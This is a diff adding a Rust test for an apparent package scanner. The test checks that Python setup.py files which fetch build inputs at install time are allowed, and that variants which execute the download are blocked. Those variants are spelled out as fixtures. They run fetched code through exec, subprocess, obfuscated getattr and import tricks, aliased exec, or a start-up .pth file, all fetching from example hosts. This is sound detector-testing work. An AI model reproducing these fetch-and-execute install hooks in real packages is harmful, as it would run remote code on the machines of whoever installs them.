@@ -2414,3 +2414,72 @@ fn anomalies_are_judged_by_what_the_artifact_does_and_their_malicious_variants_b
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
 }
+
+/// fp13: a setup.py (or a build helper it runs) that fetches a build input — a library's
+/// source tarball compiled as an extension, a data table, a dictionary unpacked into the
+/// package — and only unpacks, parses or checks it is annotated, not blocked; the same fetch
+/// with anything that can run what it fetched, in the file or in a member setup.py runs, or
+/// with a code file as its destination, still blocks through the shipped policy.
+#[test]
+fn install_time_build_inputs_annotate_and_their_malicious_variants_block() {
+    use crate::model::Decision::{self, Annotate, Block, Serve};
+    let scanner = Scanner::new(Limits::default()).with_threads(1);
+    let metadata = wheel_metadata("demo", "1.0");
+    let sdist = |setup: &str, extra: &[(&str, &str)]| {
+        let mut members = vec![
+            T::File(b"demo-1.0/PKG-INFO", &metadata),
+            T::File(b"demo-1.0/setup.py", setup.as_bytes()),
+            T::File(b"demo-1.0/demo/__init__.py", b"VERSION = '1.0'\n"),
+        ];
+        let paths: Vec<String> = extra.iter().map(|(p, _)| format!("demo-1.0/{p}")).collect();
+        for ((_, text), path) in extra.iter().zip(&paths) {
+            members.push(T::File(path.as_bytes(), text.as_bytes()));
+        }
+        tar_gz(&members)
+    };
+    const TARBALL: &str = "import hashlib, os, tarfile, tempfile\nfrom urllib.request import urlretrieve\nfrom setuptools import setup, Extension\nURL = 'https://downloads.example.org/libfoo/libfoo-2.1.tar.gz'\nSHA = 'ab' * 32\n\ndef fetch():\n    tmp = tempfile.mkdtemp()\n    path, _ = urlretrieve(URL, os.path.join(tmp, 'libfoo.tar.gz'))\n    with open(path, 'rb') as f:\n        if hashlib.sha256(f.read()).hexdigest() != SHA:\n            raise SystemExit('bad digest')\n    with tarfile.open(path) as t:\n        t.extractall(tmp)\n    return os.path.join(tmp, 'libfoo-2.1')\n\nsrc = fetch()\n";
+    const SETUP_EXT: &str =
+        "setup(name='demo', version='1.0', ext_modules=[Extension('demo._foo', [os.path.join(src, 'foo.c')])])\n";
+    let tarball = |extra: &str| format!("{TARBALL}{extra}{SETUP_EXT}");
+    let table = "import os, platform\nfrom urllib.request import urlopen\nfrom xml.etree import ElementTree\nfrom setuptools import setup\nTABLE = os.path.join('demo', 'table.xml')\nif not os.path.exists(TABLE) and platform.system() != 'Emscripten':\n    with open(TABLE, 'wb') as f:\n        f.write(urlopen('https://data.example.org/list-one.xml').read())\nElementTree.parse(TABLE)\nsetup(name='demo', version='1.0', package_data={'demo': ['table.xml']})\n";
+    let dictionary = "import os, shutil\nfrom urllib.request import urlretrieve\nfrom zipfile import ZipFile\nfrom setuptools import setup\nurlretrieve('https://dict.example.org/dict-full.zip', 'dict.zip')\nwith ZipFile('dict.zip') as z:\n    z.extractall()\nshutil.move('system_full.dic', os.path.join('demo', 'resources', 'system.dic'))\nsetup(name='demo', version='1.0')\n";
+    let helper = "import os, tempfile, zipfile\nimport requests\n\ndef fetch_protos():\n    tmp = os.path.join(tempfile.gettempdir(), 'protos')\n    with open(os.path.join(tmp, 'protos.zip'), 'wb') as zf:\n        zf.write(requests.get('https://codeload.example.org/api/zip/v1').content)\n    with zipfile.ZipFile(os.path.join(tmp, 'protos.zip')) as z:\n        z.extractall(tmp)\n";
+    let in_tree = helper.replace("z.extractall(tmp)", "z.extractall('proto')");
+    let helper_setup = "from setuptools import setup\nimport sys\nsys.path.insert(0, 'tools')\nfrom build_protos import fetch_protos\nfetch_protos()\nsetup(name='demo', version='1.0')\n";
+    let cases: Vec<(&str, Vec<u8>, Decision)> = vec![
+        // Build inputs: fetched, then unpacked, parsed or checked; nothing runs them.
+        ("a library's source tarball, digest-checked and compiled as an extension", sdist(&tarball(""), &[]), Serve),
+        ("a data table fetched and parsed as XML", sdist(table, &[]), Serve),
+        ("a build helper setup.py runs fetches protos and unpacks them in the temp dir", sdist(helper_setup, &[("tools/build_protos.py", helper)]), Serve),
+        // Unpacked into the tree, where another member could run what it holds: still blocks.
+        ("a dictionary zip unpacked into the tree", sdist(dictionary, &[]), Block),
+        ("a build helper unpacks protos into the tree", sdist(helper_setup, &[("tools/build_protos.py", &in_tree)]), Block),
+        // The same fetch with anything that can run what it fetched.
+        ("the unpacked tree's script run by exec", sdist(&tarball("exec(open(os.path.join(src, 'boot.py')).read())\n"), &[]), Block),
+        ("the unpacked tree's configure run by a process", sdist(&tarball("import subprocess\nsubprocess.call(['sh', os.path.join(src, 'configure')])\n"), &[]), Block),
+        ("the download made executable and started", sdist(&tarball("os.chmod(os.path.join(src, 'foo'), 0o755)\nos.startfile(os.path.join(src, 'foo'))\n"), &[]), Block),
+        ("the unpacked tree put on sys.path and imported", sdist(&tarball("import sys\nsys.path.insert(0, src)\nimport foo_boot\n"), &[]), Block),
+        ("the unpacked module imported by a built name", sdist(&tarball("mod = __import__('foo' + '_boot')\n"), &[]), Block),
+        ("os.system reached through getattr of a built name", sdist(&tarball("run = getattr(__import__('o' + 's'), 'sys' + 'tem')\nrun(os.path.join(src, 'foo'))\n"), &[]), Block),
+        ("exec under another name", sdist(&tarball("e = exec\ne(open(os.path.join(src, 'boot.py')).read())\n"), &[]), Block),
+        ("system imported under another name", sdist(&tarball("from os import system as s\ns(os.path.join(src, 'foo'))\n"), &[]), Block),
+        ("the download saved as a start-up .pth", sdist("import json, site, os\nfrom urllib.request import urlretrieve\nfrom setuptools import setup\nurlretrieve('https://cdn.example.net/a', os.path.join(site.getsitepackages()[0], 'demo-init.pth'))\njson.dumps({})\nsetup(name='demo', version='1.0')\n", &[]), Block),
+        ("the download saved as a module of the package through a name", sdist("import json, os\nfrom urllib.request import urlretrieve\nfrom setuptools import setup\nDST = os.path.join('demo', '_boot.py')\nurlretrieve('https://cdn.example.net/a', DST)\njson.dumps({})\nsetup(name='demo', version='1.0')\n", &[]), Block),
+        ("the build helper runs what it unpacked", sdist(helper_setup, &[("tools/build_protos.py", &format!("{helper}    import subprocess\n    subprocess.check_call([os.path.join(tmp, 'install.sh')])\n"))]), Block),
+        ("setup.py execs a file its helper unpacked in the temp dir", sdist(&helper_setup.replace("fetch_protos()\n", "fetch_protos()\nimport os, tempfile\nexec(open(os.path.join(tempfile.gettempdir(), 'protos', 'boot.py')).read())\n"), &[("tools/build_protos.py", helper)]), Block),
+        ("the download saved without a name a reader can judge", sdist("import json, os\nfrom urllib.request import urlretrieve\nfrom setuptools import setup\nurlretrieve('https://cdn.example.net/a', os.path.join('demo', 'LIST'))\njson.dumps({})\nsetup(name='demo', version='1.0')\n", &[]), Block),
+    ];
+    let mut wrong = Vec::new();
+    for (case, bytes, want) in cases {
+        let r = scan_bytes(&scanner, "demo-1.0.tar.gz", &bytes);
+        let got = match verdict_for(&r).decision {
+            Annotate => Serve,
+            d => d,
+        };
+        if got != want {
+            let found: Vec<_> = r.findings.iter().map(|f| (&f.detector, f.severity)).collect();
+            wrong.push(format!("{case}: wanted {want:?}, got {got:?}: {found:?}"));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
